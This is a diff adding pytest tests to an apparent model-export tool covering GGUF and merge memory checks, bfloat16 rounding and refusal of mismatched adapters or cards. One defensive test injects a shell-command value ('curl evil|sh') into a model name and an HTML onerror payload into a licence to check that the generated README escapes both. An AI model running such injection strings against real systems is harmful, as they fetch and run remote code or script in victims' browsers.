@@ -2,6 +2,7 @@
 
 import json
 import os
+import shlex
 import shutil
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
@@ -14,9 +15,9 @@ import pytest
 from export_case import make_adapter, make_base, make_card, make_source, make_whole
 from gtft.artifact import Artifact, verify_artifact
 from gtft.errors import EvidenceError, GateFailed, GtftError, InputError, UsageError
-from gtft.exports import making, merged, verification
+from gtft.exports import gguf_export, making, merged, verification
 from gtft.exports.making import make_export
-from gtft.exports.source import Asked, Source, Written
+from gtft.exports.source import Asked, Source, Written, find_source
 
 
 def keep_silent(doing: str, done: int, total: int) -> None:
@@ -188,7 +189,75 @@ def test_the_readme_is_the_card_with_how_to_run_it(workspace: Path, adapter: Art
     assert read_summary(made)["kl_mean"] is None
 
 
+def test_nothing_that_a_card_or_a_base_is_called_becomes_markup_or_a_command(
+    workspace: Path, adapter: Artifact
+) -> None:
+    source = make_source(workspace, adapter)
+    name = 'q"; curl evil|sh #'
+    source = replace(
+        source,
+        licence="mit\n\n# Verified by the Hub\n<img src=x onerror=alert(1)>",
+        record=replace(source.record, name=name),
+    )
+    made = make_export(source, Asked("adapter", verify=False), workspace / "artifacts", keep_silent)
+    lines = (made.path / "README.md").read_text().splitlines()
+    assert [x for x in lines if x.startswith("# ")] == ["# witness-1"]
+    assert not any("<img" in x.replace("\\<", "") for x in lines)
+    (served,) = [x for x in lines if x.startswith("vllm serve ")]
+    assert shlex.split(served)[2:4] == [name, "--enable-lora"]
+
+
+@pytest.mark.parametrize("form", ["merged", "gguf"])
+@pytest.mark.parametrize("lora", [{}, {"use_dora": True}], ids=["lora", "dora"])
+def test_an_export_is_the_same_however_much_memory_there_was(
+    workspace: Path, monkeypatch: pytest.MonkeyPatch, form: str, lora: dict[str, Any]
+) -> None:
+    made = make_adapter(workspace, workspace / "bases" / "tiny", seed=41, **lora)
+    ids = set()
+    for width in ("f32", "bf16"):
+        monkeypatch.setattr(merged, "choose_width", lambda source, dtype, width=width: width)
+        ids.add(export(workspace, made, form, verify=False).id)
+    assert len(ids) == 1
+
+
+def test_what_gguf_is_made_from_takes_the_disk_that_was_asked_for(
+    workspace: Path, adapter: Artifact, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from gtft.weights import count_parameters
+
+    write, sizes = gguf_export.write_gguf, []
+
+    def measure(merged: Path, out: Path, **given: Any) -> None:
+        sizes.append((merged / "model.safetensors").stat().st_size / count_parameters(merged))
+        write(merged, out, **given)
+
+    monkeypatch.setattr(gguf_export, "write_gguf", measure)
+    told = read_summary(export(workspace, adapter, "gguf", verify=False))
+    assert any("rounded to bfloat16" in note for note in told["notes"])
+    assert sizes == [pytest.approx(2.0, rel=0.05)]
+
+
 # -- what is wrong is caught
+
+
+def test_an_adapter_or_a_card_that_is_not_the_models_is_refused(
+    workspace: Path, adapter: Artifact
+) -> None:
+    card = make_card(workspace)
+    given: dict[str, Any] = {
+        "workspace": workspace,
+        "root": workspace,
+        "artifacts": workspace / "artifacts",
+        "card": card,
+    }
+    expected = {"adapter_id": adapter.id, "card_id": verify_artifact(card).id}
+    found = find_source("witness-1", adapter.path, **given, **expected)
+    assert found.card is not None
+    for name in expected:
+        with pytest.raises(EvidenceError, match=r"is .*, not "):
+            find_source(
+                "witness-1", adapter.path, **given, **{**expected, name: "sha256:" + "0" * 64}
+            )
 
 
 @contextmanager
@@ -367,6 +436,7 @@ def test_a_merge_without_room_is_refused_with_figures(
 ) -> None:
     source = make_source(workspace, adapter)
     monkeypatch.setattr(merged, "count_parameters", lambda folder: 1_000_000_000)
+    monkeypatch.setattr(merged, "measure_stored", lambda folder: 2.0)
     for free, dtype, width in ((8e9, "bf16", "f32"), (4e9, "bf16", "bf16"), (8e9, "f32", "f32")):
         monkeypatch.setattr(merged, "measure_free", lambda free=free: int(free))
         assert merged.choose_width(source, dtype) == width
@@ -375,6 +445,11 @@ def test_a_merge_without_room_is_refused_with_figures(
         with pytest.raises(InputError, match=r"GB of memory; .* GB are free") as e:
             merged.choose_width(source, dtype)
         assert "--format adapter" in e.value.fix
+    # Held as stored until each layer is merged.
+    monkeypatch.setattr(merged, "measure_stored", lambda folder: 4.0)
+    monkeypatch.setattr(merged, "measure_free", lambda: int(4e9))
+    with pytest.raises(InputError, match=r"needs about 5\.2 GB"):
+        merged.choose_width(source, "bf16")
 
 
 def test_half_the_memory_merges_in_bfloat16_and_still_answers_alike(
